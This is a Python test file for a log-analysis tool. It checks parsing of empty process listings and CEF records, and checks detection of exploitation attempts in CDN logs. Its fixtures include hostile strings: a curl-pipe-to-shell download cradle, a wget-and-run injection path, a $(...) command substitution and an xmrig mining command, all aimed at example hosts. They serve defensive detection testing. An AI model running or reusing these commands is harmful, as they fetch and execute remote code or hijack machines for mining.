"""Listings with nothing in them, requests in lines of any layout, and CEF in which a value says more than it may."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.app.running import Kanaria

HEADS = {
    "ss": "State  Recv-Q Send-Q Local Address:Port Peer Address:Port Process\n",
    "ss, all kinds": "Netid State  Recv-Q Send-Q Local Address:Port Peer Address:Port\n",
    "netstat": "Active Internet connections (w/o servers)\n"
    "Proto Recv-Q Send-Q Local Address           Foreign Address         State      \n",
    "netstat of Windows": "\r\nActive Connections\r\n\r\n  Proto  Local Address          Foreign Address        State\r\n",
    "ps": "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n",
    "docker ps": "CONTAINER ID   IMAGE     COMMAND   CREATED   STATUS    PORTS     NAMES\n",
    "lsof": "COMMAND PID USER FD TYPE DEVICE SIZE/OFF NODE NAME\n",
    "systemctl": "  UNIT LOAD ACTIVE SUB DESCRIPTION\n",
}


@pytest.mark.parametrize("listing", HEADS.values(), ids=list(HEADS))
def test_a_listing_of_nothing_is_read(kanaria: Kanaria, tmp_path: Path, listing: str) -> None:
    (tmp_path / "listing.txt").write_text(listing)
    done = kanaria("analyze", "--format", "json", "listing.txt")
    coverage = done.document["coverage"]
    assert (done.status, coverage["records"], coverage["unread"]) == (0, 0, 0)
    assert done.document["inputs"][0]["format"] == "process-list"


def test_other_text_is_no_listing(kanaria: Kanaria, tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text(HEADS["ss"] + "and that was all of it, the machine is quiet\n")
    assert kanaria("analyze", "notes.txt").status == 2


CDN = "HIT|200|1507167062421|412|390|{client}|-|https://cdn.example.org{path}|WA|ExampleBrowser/5.0|9b2a1f|DE\n"
CRADLE = "curl -s http://203.0.113.9/x.sh | sh"
PATHS = [f"/a?x={CRADLE}", "/shell?cd /tmp;wget http://203.0.113.9/x.sh;sh x.sh", f"/$({CRADLE})",
         "/a?x=/tmp/xmrig -o stratum+tcp://pool.example:3333 -u x"]  # fmt: skip


@pytest.mark.parametrize("client", ["-", "198.51.100.7"])
@pytest.mark.parametrize("path", PATHS)
def test_a_command_in_an_address_is_an_attempt_in_any_layout(
    kanaria: Kanaria, tmp_path: Path, path: str, client: str
) -> None:
    (tmp_path / "cdn.log").write_text(CDN.format(client=client, path=path))
    found = kanaria("analyze", "--format", "json", "cdn.log").incident
    assert found["hypotheses"][0]["name"] == "exploitation_attempt"
    assert found["severity"] in {"low", "medium"}
    assert found["entities"] == {"devices": [], "remotes": [] if client == "-" else [client]}


@pytest.mark.parametrize("url", ["/a?x=", "https://cdn.example.org/a?x="])
def test_an_address_in_json_is_one_too(kanaria: Kanaria, tmp_path: Path, url: str) -> None:
    (tmp_path / "cdn.json").write_text(f'{{"ts":1507167062,"u":"{url}{CRADLE}","zone":"WA"}}\n')
    found = kanaria("analyze", "--format", "json", "cdn.json").incident
    assert found["hypotheses"][0]["name"] == "exploitation_attempt"


@pytest.mark.parametrize("address", ["http://203.0.113.9/x.sh?k=1", "http://203.0.113.9/?run=sh"])
def test_what_a_machine_fetches_itself_stays_its_own_command(kanaria: Kanaria, tmp_path: Path, address: str) -> None:
    (tmp_path / "jobs.log").write_text(f"job 7 started: curl -s {address} | sh\n")
    found = kanaria("analyze", "--format", "json", "jobs.log").incident
    assert (found["hypotheses"][0]["name"], found["severity"]) == ("compromised_device", "high")


SAID = "Jan 10 09:00:00 fw CEF:0|Example|Sensor|1.0|100|XMR CoinMiner Usage|8|"
OWN = "src=192.168.1.20 spt=50000 dst=203.0.113.50 dpt=3333"
SENT = "msg=GET /?a src=192.0.2.9 x"


@pytest.mark.parametrize("extension", [f"{OWN} {SENT}", f"{SENT} {OWN}"], ids=["own first", "sent first"])
def test_an_address_in_what_was_sent_is_nobodys_in_cef(kanaria: Kanaria, tmp_path: Path, extension: str) -> None:
    (tmp_path / "cef.log").write_text(f"{SAID}{extension}\n")
    found = kanaria("analyze", "--format", "json", "cef.log").incident
    assert found["entities"] == {"devices": [], "remotes": []}
    assert "sensor_mining_alert" in {finding["rule"] for finding in found["findings"]}


@pytest.mark.parametrize("more", ["msg=GET /?a src\\=192.0.2.9", "src=192.168.1.20", "msg=a msg=b"])
def test_what_is_written_as_it_should_be_keeps_its_device_in_cef(kanaria: Kanaria, tmp_path: Path, more: str) -> None:
    (tmp_path / "cef.log").write_text(f"{SAID}{OWN} {more}\n")
    found = kanaria("analyze", "--format", "json", "cef.log").incident
    assert found["entities"] == {"devices": ["192.168.1.20"], "remotes": ["203.0.113.50"]}
